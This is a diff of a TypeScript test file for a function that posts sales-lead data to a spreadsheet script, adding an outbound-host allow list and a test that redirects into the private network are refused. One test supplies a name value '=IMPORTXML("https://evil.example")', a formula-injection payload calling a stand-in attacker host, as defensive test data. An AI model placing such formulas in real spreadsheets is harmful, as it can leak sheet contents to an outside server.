@@ -1,7 +1,11 @@
 import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { expect, onTestFinished, test } from 'vitest'
+import { createOutside } from '../../platform/outside.ts'
 import { postToSheet } from './sheet.server.ts'
+
+/** The scripts of these tests run on this machine. */
+const ask = createOutside(['127.0.0.1'])
 
 const lead = { id: '0199-id', name: 'Amara Nair', email: 'amara@example.org', phone: '+919876543210' }
 
@@ -60,6 +64,24 @@ test.each([307, 308])(
   },
 )
 
+test('a redirect that leads into the own network is not followed, unless the operator allows that host', async () => {
+  let asked = 0
+  const inside = await serve((_request, response) => {
+    asked++
+    response.end('ok')
+  })
+  const script = await serve((_request, response) => response.writeHead(302, { location: inside }).end())
+  const allowing = (...hosts: string[]) =>
+    postToSheet(createOutside(hosts), script, lead, AbortSignal.timeout(5_000))
+
+  expect(await allowing(new URL(script).host)).toMatchObject({
+    ending: 'unclear',
+    why: expect.stringContaining('PRIVATE_HOSTS'),
+  })
+  expect(asked).toBe(0)
+  expect(await allowing(new URL(script).host, new URL(inside).host)).toEqual({ ending: 'delivered' })
+})
+
 test('redirects in a circle come to an end', async () => {
   const script = await serve((_request, response) => response.writeHead(302, { location: '/again' }).end())
 
@@ -74,6 +96,7 @@ test('the id goes into the address, beside what the operator has there, and form
   })
 
   await postToSheet(
+    ask,
     `${script}/exec?token=a%20b`,
     { ...lead, name: '=IMPORTXML("https://evil.example")' },
     new AbortController().signal,
@@ -99,7 +122,7 @@ test('an endpoint that does not answer, answers in drops or is not there has an 
 })
 
 function post(address: string, patienceMs = 5_000) {
-  return postToSheet(address, lead, AbortSignal.timeout(patienceMs))
+  return postToSheet(ask, address, lead, AbortSignal.timeout(patienceMs))
 }
 
 async function serve(
